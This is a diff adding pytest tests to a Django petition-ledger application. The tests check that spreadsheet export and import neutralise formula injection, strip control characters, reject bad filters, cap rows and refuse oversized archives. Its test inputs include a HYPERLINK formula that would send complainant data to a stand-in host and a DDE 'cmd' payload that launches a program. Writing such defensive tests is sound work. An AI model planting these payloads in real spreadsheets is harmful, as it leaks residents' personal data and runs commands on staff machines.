@@ -115,6 +115,65 @@ def test_a_large_export_is_written_by_a_job_for_the_requester_only(client, world
     assert client.get("/staff/export/..%2F1/").status_code == 404
 
 
+# A resident's title that, run as a formula, would send the complainant column (J) away.
+FORMULA_TITLE = '=HYPERLINK("http://x/?"&J2,"查看")'
+
+
+def test_a_formula_typed_by_a_resident_leaves_the_export_as_text(api, client, world, categories):
+    submitted = api.post(
+        "/api/v1/public/petitions/",
+        {
+            "county": "990121000000",
+            "category": "infrastructure",
+            "region": "990121100200",
+            "title": FORMULA_TITLE,
+            "content": "+1+1 村道雨后塌方，车辆无法通行。",
+            "complainant_name": "@SUM(1)",
+            "complainant_phone": "13800138000",
+        },
+        format="json",
+    )
+    assert submitted.status_code == 201, submitted.content
+    client.force_login(world.users["supervisor"])
+    response = client.get("/staff/export/")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(streamed(response))).worksheets[0]  # not read-only: cell types
+    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
+    (row,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == submitted.json()["tracking_number"]]
+    title, content, name = row[7], row[8], row[9]
+    assert (title.value, title.data_type) == ("'" + FORMULA_TITLE, "s")
+    assert (content.value, content.data_type) == ("'+1+1 村道雨后塌方，车辆无法通行。", "s")
+    assert name.value.startswith("'@") and name.data_type == "s"
+
+
+def test_a_control_character_typed_by_a_resident_does_not_break_the_export(api, client, world, categories):
+    fields = {"county": "990121000000", "category": "infrastructure", "region": "990121100200"}
+    fields |= {"title": "村道\u0007塌方", "content": "雨后塌方\u001b。", "complainant_name": "字红梅"}
+    submitted = api.post("/api/v1/public/petitions/", fields, format="json")
+    assert submitted.status_code == 201, submitted.content
+    client.force_login(world.users["supervisor"])
+    response = client.get("/staff/export/")
+    assert response.status_code == 200  # an .xlsx cannot hold a bell or an escape: they are left out
+    (row,) = [row for row in read_xlsx(streamed(response)) if row[0] == submitted.json()["tracking_number"]]
+    assert (row[7], row[8]) == ("村道塌方", "雨后塌方。")
+
+
+def test_an_export_with_a_filter_the_list_refuses_is_a_400_naming_it(client, world, categories):
+    load_county_year(world, categories)
+    client.force_login(world.users["supervisor"])
+    query = "created_after=2026-13-45&status=closed"
+    assert client.get("/staff/cases/?" + query).status_code == 200  # the list shows the form's error
+    response = client.get("/staff/export/?" + query)
+    assert response.status_code == 400
+    assert "text/html" in response["Content-Type"]
+    page = response.content.decode()
+    assert "台账未导出" in page and 'data-filter="created_after"' in page and "输入一个有效的日期。" in page
+    assert f'href="/staff/cases/?{query.replace("&", "&amp;")}"' in page
+    client.cookies["suqiu_language"] = "en"
+    page = client.get("/staff/export/?" + query).content.decode()
+    assert "The ledger was not exported" in page and "Enter a valid date." in page
+
+
 # --- Import ---------------------------------------------------------------------------------
 
 
@@ -229,3 +288,101 @@ def test_import_template_and_who_may_import(client, world, categories):
     assert client.get("/staff/import/").status_code == 200
     client.force_login(world.users["observer"])
     assert client.get("/staff/import/").status_code == 404
+
+
+def test_formulas_in_a_paper_ledger_are_refused_by_row_and_column(client, world, categories):
+    rows = [good_row(n, world) for n in range(6)]
+    rows[1][4] = '=HYPERLINK("http://x/?"&G3,"查看")'  # a formula (openpyxl stores "=…" as one)
+    rows[2][7] = "=13800130002"  # a formula in the phone column
+    rows[3][5] = "+cmd|' /C calc'!A0"  # text that Excel would run once typed again
+    rows[4][6] = "@SUM(1)"
+    rows[5][3] = "=TODAY()"
+    client.force_login(world.users["clerk"])
+    response = client.post("/staff/import/", {"action": "preview", "file": ledger_file(rows)})
+    assert response.status_code == 400
+    errors = response.context["result"].errors
+    assert [(error.row, error.field) for error in errors] == [
+        (3, "title"),
+        (4, "complainant_phone"),
+        (5, "content"),
+        (6, "complainant_name"),
+        (7, "registered_on"),
+    ]
+    page = response.content.decode()
+    assert "第 3 行“标题”列是公式" in page
+    assert "第 5 行“内容”列以“+”开头" in page
+    assert Petition.objects.count() == 0
+
+
+def test_a_dash_for_none_and_signs_inside_the_text_are_imported(world, categories):
+    from grievances.ledger import ledger_import
+
+    rows = [good_row(n, world) for n in range(2)]
+    rows[0][7] = "-"  # no phone, as paper ledgers write it
+    rows[0][10] = "—"  # not settled on the spot
+    rows[1][5] = "路面塌陷约 -2 米，=见照片"  # signs inside a text are no formula
+    result = ledger_import(
+        actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
+    )
+    assert result.errors == [] and len(result.created) == 2
+    first, second = sorted(result.created, key=lambda case: case.pk)
+    assert first.complainant_phone == "" and first.status == "registered"
+    assert second.content == "路面塌陷约 -2 米，=见照片"
+
+
+def _count_rows_parsed(monkeypatch) -> list[int]:
+    """Count the rows openpyxl parses out of a sheet (a wrapper on the library, not on Suqiu)."""
+    from openpyxl.worksheet._reader import WorkSheetParser
+
+    counted = [0]
+    parse = WorkSheetParser.parse
+
+    def counting(self):
+        for row in parse(self):
+            counted[0] += 1
+            yield row
+
+    monkeypatch.setattr(WorkSheetParser, "parse", counting)
+    return counted
+
+
+def test_a_file_over_the_row_cap_is_refused_without_reading_the_rest(client, world, categories, monkeypatch):
+    from grievances.ledger import MAX_IMPORT_ROWS
+
+    row = good_row(1, world)
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet()
+    sheet.append([header for _field, header in import_columns()])
+    for _n in range(MAX_IMPORT_ROWS * 10):
+        sheet.append(row)
+    upload = io.BytesIO()
+    workbook.save(upload)
+    upload.seek(0)
+    upload.name = "ledger.xlsx"
+    parsed = _count_rows_parsed(monkeypatch)
+    client.force_login(world.users["clerk"])
+    response = client.post("/staff/import/", {"action": "preview", "file": upload})
+    assert response.status_code == 400
+    (error,) = response.context["result"].errors
+    assert (error.row, error.field) == (MAX_IMPORT_ROWS + 2, "file")  # the first row over the cap
+    assert f"文件超过 {MAX_IMPORT_ROWS} 行" in response.content.decode()
+    assert parsed[0] <= MAX_IMPORT_ROWS + 2  # the header and the rows up to the first one over
+    assert Petition.objects.count() == 0
+    assert 'id="import-confirm"' not in response.content.decode()
+
+
+def test_a_file_that_unpacks_too_large_is_refused_unread(world, categories, monkeypatch):
+    import zipfile
+
+    from grievances.ledger import MAX_IMPORT_UNPACKED_BYTES, ledger_import
+
+    packed = ledger_file([good_row(1, world)])
+    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/media/padding.bin", b"\0" * (MAX_IMPORT_UNPACKED_BYTES + 1))
+    packed.seek(0)
+    parsed = _count_rows_parsed(monkeypatch)
+    result = ledger_import(
+        actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=packed, dry_run=False
+    )
+    assert [(error.row, error.field) for error in result.errors] == [(0, "file")]
+    assert parsed[0] == 0 and Petition.objects.count() == 0
